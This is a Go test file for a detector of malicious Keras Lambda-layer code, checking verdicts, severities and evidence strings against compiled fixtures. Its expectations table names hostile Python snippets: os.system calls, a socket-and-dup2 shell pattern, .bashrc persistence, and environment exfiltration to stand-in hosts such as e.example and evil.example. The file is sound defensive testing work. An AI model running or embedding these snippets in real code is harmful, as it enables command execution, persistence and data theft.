package pycode

import (
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// fixture is one lambda of testdata/lambdas/<version>.json, as Keras stores it.
type fixture struct {
	Code     string
	Defaults []any
	Closure  []any
}

// loadFixtures returns every generated lambda, keyed by version then name.
func loadFixtures(t testing.TB) map[string]map[string]fixture {
	t.Helper()
	files, err := filepath.Glob("testdata/lambdas/*.json")
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	out := map[string]map[string]fixture{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var m map[string]fixture
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		out[strings.TrimSuffix(filepath.Base(f), ".json")] = m
	}
	return out
}

func (fx fixture) input(env Env) Input {
	in := Input{Env: env}
	for _, d := range fx.Defaults {
		in.Defaults = append(in.Defaults, FromJSON(d))
	}
	for _, c := range fx.Closure {
		in.Closure = append(in.Closure, FromJSON(c))
	}
	return in
}

func (fx fixture) analyze(t *testing.T, env Env) *Report {
	t.Helper()
	raw, viaRaw := DecodeKerasCode(fx.Code)
	if viaRaw {
		t.Fatalf("fixture is not base64")
	}
	rep, err := AnalyzeMarshal(raw, fx.input(env))
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// expectation is what every CPython version's compilation of a case must
// grade as; evidence strings are substrings of the indicator's evidence.
type expectation struct {
	verdict Verdict
	want    map[ID]string
}

func mal(want map[ID]string) expectation { return expectation{Malicious, want} }
func sus(want map[ID]string) expectation { return expectation{Suspicious, want} }

var expectations = map[string]expectation{
	"M1_eval":           mal(map[ID]string{M1: "eval('1+1')"}),
	"M1_builtins":       mal(map[ID]string{M1: "__builtins__['exec']('pass')"}),
	"M1_reflect":        mal(map[ID]string{M1: "getattr(globals()['__builtins__'], 'eval')('1')", S4: "globals()"}),
	"M1_methodcaller":   mal(map[ID]string{M3: "methodcaller('system', 'id')(__import__('os'))", S4: "methodcaller"}),
	"M2_import":         mal(map[ID]string{M2: "__import__('subprocess')"}),
	"M3_getattr_import": mal(map[ID]string{M3: "getattr(__import__('os'), 'system')('id')", M2: "__import__('os')"}),
	"M3_listcomp":       mal(map[ID]string{M3: "os.system(c)"}),
	"M3_sysmodules":     mal(map[ID]string{M3: "__import__('sys').modules['os'].system('id')", M2: "modules['os']"}),
	"M3_os":             mal(map[ID]string{M3: "os.system('id')"}),
	"M3_popen":          mal(map[ID]string{M3: "__import__('os').popen('id')", M2: "__import__('os')"}),
	"M4_shell":          mal(map[ID]string{M4: "__import__('os').dup2(0, 0)", S3: "__import__('socket').socket()"}),
	"M5_marshal":        mal(map[ID]string{M5: "marshal.loads(codecs.decode(", M6: "marshal.loads(", A2: "marshal.loads("}),
	"M5_types":          mal(map[ID]string{M5: "python_types.FunctionType(x.__code__", S4: "x.__code__"}),
	"M5_nested":         mal(map[ID]string{M5: "marshal.loads(", M3: "__import__('os').system('id')"}),
	"M6_decode_exec":    mal(map[ID]string{M6: "eval(__import__('base64').b64decode('MSsx'))", S2: "b64decode('MSsx')"}),
	"M7_reflect_string": mal(map[ID]string{M7: "'eval'", S4: "getattr(x, 'eval')"}),
	"M8_unsafe":         mal(map[ID]string{M8: "keras.config.enable_unsafe_deserialization()"}),
	"M9_bashrc":         mal(map[ID]string{M9: "open('/home/u/.bashrc', 'a')", S5: "open("}),
	"M10_exfil":         mal(map[ID]string{M10: "urlopen('http://e.example/?' + os.environ['HOME'])", S1: "os.environ['HOME']"}),
	"S1_env":            sus(map[ID]string{S1: "os.getenv('SCALE', '1')"}),
	"S2_decode":         sus(map[ID]string{S2: "codecs.decode('YWJj', 'base64')"}),
	"S3_url":            sus(map[ID]string{S3: "'http://evil.example/beacon'"}),
	"S4_dunder":         sus(map[ID]string{S4: "x.__class__"}),
	"S5_listdir":        sus(map[ID]string{S5: "os.listdir('.')"}),
	"S6_cwd":            sus(map[ID]string{S6: "os.getcwd()"}),
	"S7_sleep":          sus(map[ID]string{S7: "__import__('time').sleep(1)", S4: "__import__('time')"}),
	"S8_ctypes":         mal(map[ID]string{S8: "__import__('ctypes').CDLL(None)", M2: "__import__('ctypes')"}),
	"S9_blob":           sus(map[ID]string{S9: "'Zm9vYmFy"}),
	"U1_unknown":        sus(map[ID]string{U1: "foo.bar(x)"}),
	"K2_module_os":      sus(map[ID]string{U1: "system('id')"}),
	"V_malicious":       mal(map[ID]string{M1: "exec('print(1)')", M2: "__import__('os')", M3: "__import__('os').system('id')"}),
}

// TestFixtures grades every generated lambda of every CPython version.
func TestFixtures(t *testing.T) {
	for ver, cases := range loadFixtures(t) {
		names := make([]string, 0, len(cases))
		for n := range cases {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, name := range names {
			t.Run(ver+"/"+name, func(t *testing.T) {
				rep := cases[name].analyze(t, Keras3Env())
				exp, ok := expectations[name]
				if !ok { // benign cases
					exp = expectation{verdict: Harmless}
				}
				checkReport(t, rep, exp)
				if !containsVersion(rep, ver) {
					t.Errorf("analysed as %v, want %s among them", rep.Versions, ver)
				}
			})
		}
	}
}

func checkReport(t *testing.T, rep *Report, exp expectation) {
	t.Helper()
	if rep.Verdict != exp.verdict {
		t.Errorf("verdict %v, want %v; indicators:\n%s", rep.Verdict, exp.verdict, dump(rep))
	}
	if exp.verdict == Harmless && len(rep.Indicators) > 0 {
		t.Errorf("harmless lambda has indicators:\n%s", dump(rep))
	}
	for id, ev := range exp.want {
		if !hasIndicator(rep, id, ev) {
			t.Errorf("no %s with evidence containing %q; got:\n%s", id, ev, dump(rep))
		}
	}
}

func hasIndicator(rep *Report, id ID, evidence string) bool {
	for _, in := range rep.Indicators {
		if in.ID == id && strings.Contains(in.Evidence, evidence) {
			return true
		}
	}
	return false
}

func containsVersion(rep *Report, ver string) bool {
	for _, v := range rep.Versions {
		if v.String() == ver {
			return true
		}
	}
	return false
}

func dump(rep *Report) string {
	var b strings.Builder
	for _, in := range rep.Indicators {
		b.WriteString("  " + in.String() + "\n")
	}
	return b.String()
}

// TestKeras2ModuleNamespace: the Lambda's "module" field makes a bare name
// a module attribute.
func TestKeras2ModuleNamespace(t *testing.T) {
	for ver, cases := range loadFixtures(t) {
		rep := cases["K2_module_os"].analyze(t, Keras2Env("os"))
		if rep.Verdict != Malicious || !hasIndicator(rep, M3, "system('id')") {
			t.Errorf("%s: want M3 through module os, got %v:\n%s", ver, rep.Verdict, dump(rep))
		}
		rep = cases["b_tf"].analyze(t, Keras2Env("__main__"))
		if rep.Verdict != Harmless {
			t.Errorf("%s: tf lambda under Keras 2 env: %v\n%s", ver, rep.Verdict, dump(rep))
		}
	}
}

// TestSeverity follows the combination rule: M critical, S1-S5/S8/S9 high,
// S6/S7/U1 alone medium.
func TestSeverity(t *testing.T) {
	fx := loadFixtures(t)["3.11"]
	for name, want := range map[string]string{"M3_os": "critical", "S1_env": "high", "S6_cwd": "medium",
		"U1_unknown": "medium", "b_mul": "info"} {
		if got := fx[name].analyze(t, Keras3Env()).Severity.String(); got != want {
			t.Errorf("%s: severity %s, want %s", name, got, want)
		}
	}
}

// TestTrailingData: bytes after the code object are ignored by
// marshal.loads and reported as A1.
func TestTrailingData(t *testing.T) {
	raw, _ := DecodeKerasCode(loadFixtures(t)["3.12"]["b_mul"].Code)
	rep, err := AnalyzeMarshal(append(raw, "junk"...), Input{Env: Keras3Env()})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != Suspicious || !hasIndicator(rep, A1, "4 bytes after the object") {
		t.Errorf("want A1:\n%s", dump(rep))
	}
}
